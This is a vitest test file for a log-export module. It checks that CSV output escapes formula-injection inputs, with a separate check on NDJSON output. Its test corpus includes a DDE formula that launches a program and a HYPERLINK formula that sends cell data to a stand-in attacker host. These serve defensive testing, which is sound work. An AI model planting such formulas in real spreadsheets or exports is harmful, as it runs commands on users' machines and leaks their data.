import assert from 'node:assert/strict'
import { describe, it } from 'vitest'
import type { LogEntry } from '../../../contract/console/log.ts'
import { csvLine, EXPORT_FORMATS } from './print-export.ts'

// Formulas for CSV injection and their safe form. From OWASP's advice, and more.
const CORPUS: readonly (readonly [text: string, field: string])[] = [
  ['=1+1', `'=1+1`],
  ['+15550001000', `'+15550001000`],
  ['-2+3', `'-2+3`],
  ['@SUM(A1)', `'@SUM(A1)`],
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['=HYPERLINK("http://evil.example?x="&A1,"x")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""x"")"`],
  ['\t=1+1', `' =1+1`],
  ['\r=1+1', `"'\r=1+1"`],
  ['\n=1+1', `"'\n=1+1"`],
  ['  =1+1', `'  =1+1`],
  ['\u0000=1+1', `' =1+1`],
  ['\ttext', `' text`],
  ['\u200b=1+1', `'\u200b=1+1`],
  ['\ufeff=1+1', `'\ufeff=1+1`],
  ['\u00a0=1+1', `'\u00a0=1+1`],
  ['＝1+1', `'＝1+1`],
  ['＋1', `'＋1`],
  ['－1', `'－1`],
  ['＠SUM', `'＠SUM`],
  ['|calc', `'|calc`],
  ['%0A=1', `'%0A=1`],
  ['1=1', '1=1'],
  ['a-b', 'a-b'],
  ['plain', 'plain'],
  ['', ''],
  ['a,b', '"a,b"'],
  ['say "hi"', '"say ""hi"""'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['two\nlines;=1+1', '"two\nlines;=1+1"'],
  [' blank at the ends ', '" blank at the ends "'],
  ['bell\u0007 and escape\u001b[31m', 'bell  and escape [31m'],
  ['line\u2028separator', 'line separator'],
  ['é 你好 🎉', 'é 你好 🎉'],
]

describe('an export as CSV', () => {
  it.each(CORPUS)('writes %j so that no sheet runs it', (text, field) => {
    assert.equal(csvLine([text]), `${field}\r\n`)
  })

  it('has neither text nor quotes for what is not there, and numbers as they are', () => {
    assert.equal(csvLine([null, 12.5, -3, 'x']), ',12.5,-3,x\r\n')
  })

  it('begins with the mark by which sheets know its encoding, and has as many fields in each line as columns', () => {
    const { head, print } = EXPORT_FORMATS.csv
    const columns = head.replace('\uFEFF', '').trimEnd().split(',')

    assert.ok(head.startsWith('\uFEFFreceived_at,status,'))
    assert.equal(readCsvLine(print(ENTRY)).length, columns.length)
    assert.equal(readCsvLine(print(ENTRY))[columns.indexOf('errors')], 'to: =bad, “very” (number_malformed)')
  })
})

describe('an export as NDJSON', () => {
  it('is one entry in each line, as the console shows it', () => {
    const line = EXPORT_FORMATS.ndjson.print(ENTRY)

    assert.ok(line.endsWith('\n'))
    assert.deepEqual(JSON.parse(line), ENTRY)
  })
})

const ENTRY: LogEntry = {
  id: 'request-1',
  requestId: 'request-1',
  receivedAt: Date.UTC(2026, 0, 15, 12),
  status: 400,
  code: 'HC-2',
  name: 'bad_request_400',
  outcome: 'refused',
  madeBy: null,
  resentBy: null,
  errors: [{ field: 'to', code: 'number_malformed', message: '=bad, “very”' }],
  messageId: null,
  state: null,
  reason: null,
  from: '15550001000',
  to: '+1,555',
  type: 'message',
  connectionId: null,
  token: { id: 'tok_1', name: '=token' },
  tookMs: 0.8,
  attempts: null,
  summed: null,
}

/** By RFC 4180. */
function readCsvLine(line: string): string[] {
  const fields = [...line.trimEnd().matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)]
  return fields.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
}
